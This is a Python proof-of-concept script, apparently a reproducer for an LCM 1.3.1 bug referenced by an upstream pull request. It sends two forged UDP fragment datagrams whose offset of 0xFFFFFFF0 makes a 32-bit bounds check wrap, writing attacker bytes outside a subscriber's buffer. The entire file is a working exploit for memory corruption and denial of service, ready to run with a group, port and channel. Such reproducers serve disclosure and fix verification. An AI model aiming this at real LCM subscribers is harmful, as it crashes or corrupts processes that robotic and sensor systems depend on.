#!/usr/bin/env python3
"""Sends the two UDP datagrams that crash an LCM 1.3.1 subscriber (lcm-proj/lcm pull request
#628): fragment 0 of a 3-fragment, 100-octet message, then fragment 1 of the same message (same
sender, same sequence number) claiming offset 0xFFFFFFF0 with 50 octets. liblcm 1.3.1 checks
offset + size against the message size in 32 bits, the sum wraps, and the copy lands 4 GiB
before its buffer. LCM's fragment header (lcm_udpm.c): magic "LC03", sequence number, message
size, fragment offset, fragment number, fragment count, all big-endian; fragment 0 carries the
channel name before its data.

Usage: lcm_hostile_datagrams.py GROUP PORT CHANNEL"""
import socket
import struct
import sys

MAGIC_LC03 = 0x4C433033


def fragment(seq, msg_size, offset, number, count, body):
    return struct.pack(">IIIIHH", MAGIC_LC03, seq, msg_size, offset, number, count) + body


def main(argv):
    if len(argv) != 4:
        sys.stderr.write(__doc__.splitlines()[-1] + "\n")
        return 2
    group, port, channel = argv[1], int(argv[2]), argv[3]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 0)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
    seq = 0x1234
    first = fragment(seq, 100, 0, 0, 3, channel.encode() + b"\0" + bytes(30))
    wrapping = fragment(seq, 100, 0xFFFFFFF0, 1, 3, b"\xAA" * 50)
    sock.sendto(first, (group, port))
    sock.sendto(wrapping, (group, port))
    print("sent 2 datagrams to %s:%d (fragment 0 of 3, then fragment 1 at offset 0xFFFFFFF0)"
          % (group, port))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
